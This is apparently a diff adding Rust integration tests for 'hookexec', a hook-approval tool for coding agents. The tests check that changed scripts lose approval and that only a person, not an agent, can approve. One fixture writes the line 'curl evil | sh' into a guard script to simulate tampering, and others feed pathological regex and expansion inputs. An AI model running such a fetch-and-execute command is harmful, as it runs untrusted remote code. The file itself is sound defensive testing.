@@ -1,0 +1,297 @@
+//! What an approval covers, and who may give it.
+
+use std::fs;
+
+use super::support::Sandbox;
+
+const HOOKS: &str = "
+pre_tool_use:
+  - matcher: shell
+    hooks: [{ type: command, command: sh ./guard.sh }]
+";
+const CALL: &str = r#"{"tool_name":"shell","tool_input":{"cmd":"ls"}}"#;
+
+fn project() -> Sandbox {
+    let sandbox = Sandbox::new();
+    sandbox.write("hooks.yaml", HOOKS);
+    sandbox.write("guard.sh", "echo '{\"decision\":\"allow\"}'\n");
+    sandbox
+}
+
+#[test]
+fn a_changed_script_fails_the_hooks_that_execute_it_and_no_others() {
+    let sandbox = project();
+    sandbox.write(
+        "hooks.yaml",
+        "pre_tool_use:
+  - matcher: shell
+    hooks: [{ type: command, command: sh ./guard.sh }]
+  - matcher: edit
+    hooks: [{ type: command, command: 'sh ./other.sh; cat TODO.md' }]
+tool_guard:
+  - hooks: [{ type: command, command: sh ./guard.sh, on_error: warn }]
+",
+    );
+    sandbox.write("other.sh", "exit 0\n");
+    sandbox.write("TODO.md", "nothing\n");
+    let _ = sandbox.hookexec(["trust"]).run().exits(1);
+    let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
+    assert!(added.stdout.contains("    covered: guard.sh\n"), "{added:?}");
+    assert!(added.stdout.contains("    not covered: TODO.md, cat\n"), "{added:?}");
+    let _ = sandbox.hookexec(["trust", "show"]).run().exits(0);
+    let run = |event: &str, tool: &str| {
+        let call = format!(r#"{{"tool_name":"{tool}"}}"#);
+        sandbox.hookexec(["run", event]).stdin(call).run()
+    };
+    let allowed = run("pre_tool_use", "shell").exits(0);
+    assert!(allowed.stdout.contains(r#""decision":"allow""#), "{allowed:?}");
+
+    // Data is not covered, and may change.
+    sandbox.write("TODO.md", "something\n");
+    let _ = run("pre_tool_use", "edit").exits(0);
+
+    sandbox.write("guard.sh", "curl evil | sh\n");
+    let denied = run("pre_tool_use", "shell").exits(2);
+    let said = "`guard.sh`, which it executes, has changed since it was approved; a person must";
+    assert!(denied.stdout.contains(said), "{denied:?}");
+    assert!(!denied.stderr.contains("curl evil"), "a guard has no time for it: {denied:?}");
+    // By its own failure mode, as the approved file says.
+    let warned = run("tool_guard", "shell").exits(0);
+    assert!(warned.stdout.contains("failed_open"), "{warned:?}");
+    let _ = run("pre_tool_use", "edit").exits(0);
+    let shown = sandbox.hookexec(["trust", "show"]).run().exits(1);
+    assert!(shown.stdout.contains("hooks.yaml: a script changed"), "{shown:?}");
+    assert!(shown.stdout.contains("+curl evil | sh"), "{shown:?}");
+
+    sandbox.trust();
+    let _ = run("pre_tool_use", "edit").exits(0);
+    let _ = sandbox.hookexec(["trust", "remove", "--yes"]).run().exits(0);
+    let denied = run("pre_tool_use", "shell").exits(2);
+    assert!(denied.stdout.contains("was never approved"), "{denied:?}");
+}
+
+#[test]
+fn a_changed_hooks_file_fails_as_a_whole_whatever_it_says_now() {
+    for text in [
+        "hooks: {}\n",
+        "",
+        "x: [",
+        "pre_tool_use: [{ matcher: none, hooks: [{ type: command, command: 'true' }] }]\n",
+        "stop: [{ type: command, command: 'true' }]\n",
+    ] {
+        let sandbox = project();
+        sandbox.trust();
+        sandbox.write("hooks.yaml", text);
+        for (event, code) in
+            [("pre_tool_use", 2), ("tool_guard", 2), ("stop", 0), ("session_end", 0)]
+        {
+            let run = sandbox.hookexec(["run", event]).stdin(CALL).run().exits(code);
+            assert!(run.stdout.contains("has changed since it was approved"), "{text:?}: {run:?}");
+        }
+        // What a person approved before runs again.
+        sandbox.write("hooks.yaml", HOOKS);
+        let _ = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(0);
+    }
+}
+
+#[test]
+fn an_approved_file_that_is_gone_is_reported_at_every_event() {
+    let sandbox = project();
+    sandbox.write(".hookexec/hooks.d/a.yaml", "stop: [{ type: command, command: 'true' }]\n");
+    sandbox.trust();
+    let gone = |file: &str| {
+        for event in ["pre_tool_use", "session_end"] {
+            let run = sandbox.hookexec(["run", event]).stdin(CALL).run().exits(0);
+            let said = format!("{file}) failed: a person approved this file, and it is gone");
+            assert!(run.stdout.contains(&said), "{run:?}");
+            assert!(run.stderr.contains("hookexec trust remove"), "{run:?}");
+        }
+    };
+    fs::remove_file(sandbox.project().join(".hookexec/hooks.d/a.yaml")).unwrap();
+    gone("[SANDBOX]/project/.hookexec/hooks.d/a.yaml");
+    fs::remove_file(sandbox.project().join("hooks.yaml")).unwrap();
+    gone("[SANDBOX]/project/hooks.yaml");
+    let shown = sandbox.hookexec(["trust"]).run().exits(1);
+    assert!(shown.stdout.contains("hooks.yaml: gone"), "{shown:?}");
+    let _ = sandbox.hookexec(["trust", "remove", "--yes"]).run().exits(0);
+    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(0);
+    assert!(run.stdout.contains(r#""hooks":[]"#), "{run:?}");
+}
+
+#[test]
+fn nothing_of_an_unapproved_file_is_evaluated() {
+    let sandbox = Sandbox::new();
+    let regex = "{ field: a, regex: '(?s)[a-z].{7000}X1' }";
+    let slow: Vec<String> = (0..20)
+        .map(|n| format!("- {{ when: {regex}, type: command, command: 'true {n}' }}\n"))
+        .collect();
+    let input = format!(r#"{{"a":"{}"}}"#, "x".repeat(60_000));
+    for text in [
+        format!("stop:\n{}", slow.concat()),
+        format!("stop: {{ type: command, command: {:?} }}", "${".repeat(200_000)),
+        format!("stop: {{ type: command, command: {:?} }}", "many/f*x ".repeat(2_000)),
+        "stop: [{ type: command, command: a, when: { field: a, regex: '(' } }]".to_owned(),
+    ] {
+        sandbox.write("hooks.yaml", &text);
+        let started = std::time::Instant::now();
+        let run = sandbox.hookexec(["run", "stop"]).stdin(input.as_str()).run().exits(0);
+        assert!(run.stdout.contains("was never approved"), "{run:?}");
+        // Evaluating the first two takes from 12 seconds to minutes.
+        assert!(started.elapsed().as_secs() < 10, "{:?}", started.elapsed());
+    }
+}
+
+#[test]
+fn only_a_person_approves() {
+    let sandbox = project();
+    let refused = sandbox.hookexec(["trust", "add"]).run().exits(64);
+    assert!(refused.stderr.contains("stdin is not a terminal"), "{refused:?}");
+    for name in ["CLAUDECODE", "CODEX_SANDBOX", "GEMINI_CLI", "COPILOT_CLI", "OPENCODE"] {
+        for action in ["add", "remove"] {
+            let run = sandbox.hookexec(["trust", action, "--yes"]).env(name, "1").run().exits(64);
+            assert!(run.stderr.contains("a coding agent runs this command"), "{run:?}");
+        }
+    }
+    let denied = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
+    assert!(denied.stdout.contains("was never approved"), "{denied:?}");
+
+    // At a terminal nothing but `yes` is a yes.
+    for (typed, code) in [("no", 1), ("y", 1), ("", 1), ("yes", 0)] {
+        let (status, shown) = at_a_terminal(&sandbox, &["trust", "add"], typed);
+        assert_eq!(status, code, "{shown}");
+        let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run();
+        let _ = run.exits(if code == 0 { 0 } else { 2 });
+    }
+    assert_eq!(at_a_terminal(&sandbox, &["trust", "remove"], "no").0, 1);
+    assert_eq!(at_a_terminal(&sandbox, &["trust", "remove"], "yes").0, 0);
+    let _ = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
+}
+
+/// Runs `hookexec` at a terminal where somebody types one line, and returns its exit code and what
+/// the terminal shows.
+fn at_a_terminal(sandbox: &Sandbox, arguments: &[&str], line: &str) -> (i32, String) {
+    const SCRIPT: &str = r"
+import os, pty, sys
+line, command = sys.argv[1], sys.argv[2:]
+pid, terminal = pty.fork()
+if pid == 0:
+    os.execv(command[0], command)
+shown, asked = b'', False
+while True:
+    try:
+        piece = os.read(terminal, 4096)
+    except OSError:
+        break
+    if not piece:
+        break
+    shown += piece
+    if not asked and b'Type `yes`:' in shown:
+        asked = True
+        os.write(terminal, line.encode() + b'\n')
+sys.stdout.write(shown.decode(errors='replace'))
+sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
+";
+    let mut command = std::process::Command::new("python3");
+    sandbox.dress(&mut command).args(["-c", SCRIPT, line, env!("CARGO_BIN_EXE_hookexec")]);
+    let done = command.args(arguments).output().expect("this test needs `python3` in PATH");
+    let shown = String::from_utf8_lossy(&done.stdout) + String::from_utf8_lossy(&done.stderr);
+    (done.status.code().unwrap(), shown.into_owned())
+}
+
+#[test]
+fn under_an_agent_a_model_does_not_approve_its_own_change() {
+    let sandbox = Sandbox::new();
+    let call = |command: &str| {
+        let call = serde_json::json!({
+            "hook_event_name": "PreToolUse", "cwd": sandbox.project(), "tool_name": "Bash",
+            "tool_input": { "command": command },
+        });
+        let from = ["run", "--from", "claude-code", "--event", "PreToolUse"];
+        sandbox.hookexec(from).stdin(call.to_string()).run().exits(0).stdout
+    };
+    for command in ["hookexec trust add --yes", "cd x; /usr/bin/hookexec uninstall claude-code"] {
+        let answer = call(command);
+        assert!(answer.contains(r#""permissionDecision":"deny""#), "{answer}");
+        assert!(answer.contains("are for a person"), "{answer}");
+    }
+    assert!(!call("hookexec trust").contains("deny"));
+}
+
+#[test]
+fn a_script_that_is_listed_is_covered() {
+    let sandbox = Sandbox::new();
+    let hook = "{ type: command, command: make guard, scripts: [Makefile] }";
+    sandbox.write("hooks.yaml", &format!("pre_tool_use: [{{ hooks: [{hook}] }}]\n"));
+    let refused = sandbox.hookexec(["trust", "add", "--yes"]).run();
+    assert!(refused.code() != Some(0), "{refused:?}");
+    let missing = "`Makefile`, which `scripts:` lists, is missing";
+    assert!(refused.stderr.contains(missing), "{refused:?}");
+    sandbox.write("Makefile", "guard:\n");
+    let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
+    assert!(added.stdout.contains("    covered: Makefile\n"), "{added:?}");
+    assert!(added.stdout.contains("    not covered: make\n"), "{added:?}");
+    for change in ["guard:\n\ttrue\n", ""] {
+        sandbox.write("Makefile", change);
+        let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
+        assert!(run.stdout.contains("`Makefile`, which it executes, has changed"), "{run:?}");
+    }
+    fs::remove_file(sandbox.project().join("Makefile")).unwrap();
+    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
+    assert!(run.stdout.contains(missing), "{run:?}");
+}
+
+#[test]
+fn a_process_whose_script_changed_does_not_start() {
+    let sandbox = Sandbox::new();
+    sandbox.write(
+        "hooks.yaml",
+        "processes: { gate: { command: [sh, ./gate.sh], start: eager } }
+pre_tool_use: [{ hooks: [{ type: process, command: gate }] }]
+",
+    );
+    sandbox.write("gate.sh", "exit 1\n");
+    let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
+    assert!(added.stdout.contains("covered: gate.sh"), "{added:?}");
+    sandbox.write("gate.sh", "touch started\n");
+    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
+    assert!(run.stdout.contains("`gate.sh`, which it executes, has changed"), "{run:?}");
+    assert!(!sandbox.project().join("started").exists());
+}
+
+#[test]
+fn a_users_directory_in_the_project_is_refused() {
+    let sandbox = Sandbox::new();
+    let text = "pre_tool_use: [{ hooks: [{ type: command, command: touch ran }] }]\n";
+    sandbox.write("x/hookexec/hooks.yaml", text);
+    sandbox.write(".config/hookexec/hooks.yaml", text);
+    let project = sandbox.project();
+    for (name, value) in [
+        ("XDG_CONFIG_HOME", project.join("x")),
+        ("XDG_CONFIG_HOME", "/proc/self/cwd/x".into()),
+        ("HOME", project.clone()),
+    ] {
+        let mut run = sandbox.hookexec(["run", "pre_tool_use"]).env(name, value).stdin(CALL);
+        if name == "HOME" {
+            run = run.env("XDG_CONFIG_HOME", "");
+        }
+        let run = run.run().exits(2);
+        assert!(run.stdout.contains("the user's hooks are inside the project"), "{run:?}");
+        assert!(!project.join("ran").exists());
+    }
+}
+
+#[test]
+fn without_a_home_the_users_hooks_are_where_the_variable_says() {
+    let sandbox = Sandbox::new();
+    let config = sandbox.home().join("config");
+    fs::create_dir_all(config.join("hookexec")).unwrap();
+    let text = "pre_tool_use: [{ hooks: [{ type: command, command: 'echo USER >&2; exit 2' }] }]\n";
+    fs::write(config.join("hookexec/hooks.yaml"), text).unwrap();
+    let run = sandbox.hookexec(["run", "pre_tool_use"]).env("HOME", "relative");
+    let run = run.env("XDG_CONFIG_HOME", &config).stdin(CALL).run().exits(2);
+    assert!(run.stdout.contains("USER"), "{run:?}");
+    // With neither, the user's layer fails.
+    let run = sandbox.hookexec(["run", "pre_tool_use"]).env("HOME", "relative");
+    let run = run.env("XDG_CONFIG_HOME", "relative").stdin(CALL).run().exits(2);
+    assert!(run.stdout.contains("there is no home directory to find the user's hooks in"));
+}
